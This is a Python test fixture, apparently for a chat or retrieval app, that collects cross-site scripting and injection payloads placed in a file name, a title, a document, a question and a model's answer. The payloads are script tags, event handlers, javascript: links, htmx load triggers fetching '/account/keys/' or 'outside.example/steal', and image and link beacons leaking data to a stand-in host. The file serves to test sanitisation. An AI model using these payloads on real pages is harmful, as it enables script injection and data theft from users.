"""What somebody who means harm writes into a question, a document or a model's answer.

Each piece, if anything ever ran it, would set ``window.harmed``, or ask a host outside for something.
"""

from __future__ import annotations

SOURCE = "Lighthouses"
FILE = "rota <img src=x onerror=harmed=12>.md"
TITLE = "Rota <img src=x onerror=harmed=1> <script>harmed=2</script>"

MARKUP = (
    "<script>window.harmed=3</script>",
    '<img src="https://outside.example/pixel.png" onerror="window.harmed=4">',
    '<a href="javascript:window.harmed=5">press here</a>',
    '<div hx-get="https://outside.example/steal" hx-trigger="load" hx-on:click="window.harmed=6">hx</div>',
    '<div hx-get="/account/keys/" hx-trigger="load" data-hx-post="/account/keys/" hx-swap-oob="true" id="composer">',
    '<iframe src="https://outside.example/"></iframe><svg onload="window.harmed=7"></svg>',
    '<form action="https://outside.example/" id="messages"><button name="text">go</button></form>',
    '<style>body{background:url("https://outside.example/style.png")}</style>',
    '<link rel="stylesheet" href="https://outside.example/sheet.css"><base href="https://outside.example/">',
)
MARKDOWN = (
    "![a chart](https://outside.example/chart.png)",
    "[press here](javascript:window.harmed=8)",
    "[or here](data:text/html,<script>window.harmed=9</script>)",
    "<https://outside.example/plain> and [a link](https://outside.example/leave?q=secret)",
    '[1]: https://outside.example/reference "onmouseover=window.harmed=10"',
    "`<script>window.harmed=11</script>`",
)
# What only an answer may hold: formulas, notes and heads of code that try the same.
RICH = (
    r"$\href{javascript:window.harmed=13}{x}$ and $\text{<img src=x onerror=window.harmed=14>}$",
    r"$$\text{</math><script>window.harmed=15</script>}$$",
    "\\[\n\\href{https://outside.example/formula}{y} \\style{position:fixed}{z}\n\\]",
    '[^"><script>window.harmed=16</script>] and [^composer]',
    "[^composer]: <script>window.harmed=17</script>",
    '```"><script>window.harmed=18</script>\n<script>window.harmed=19</script>\n```',
    "~~~onclick=window.harmed=20\n</code></pre><img src=https://outside.example/code.png>\n~~~",
)
# The lighthouse's words are in no other document, so that a question with them finds this one.
DOCUMENT = "\n".join(
    (
        "---",
        f"title: '{TITLE}'",
        "---",
        f"# {TITLE}",
        "",
        "The lighthouse keeper trims the Fresnel lamp at dusk. " + " ".join(MARKUP),
        "",
        f"## Keepers {MARKUP[0]}",
        "",
        "The second lighthouse keeper winds the Fresnel clockwork every four hours. " + " ".join(MARKDOWN),
        "",
    )
)
QUESTION = "When does the lighthouse keeper trim the Fresnel lamp? " + " ".join(MARKUP[:5])
ANSWER = "The keeper trims it at dusk [1].\n\n" + "\n\n".join((*MARKUP, *MARKDOWN, *RICH)) + "\n\nThat is all."
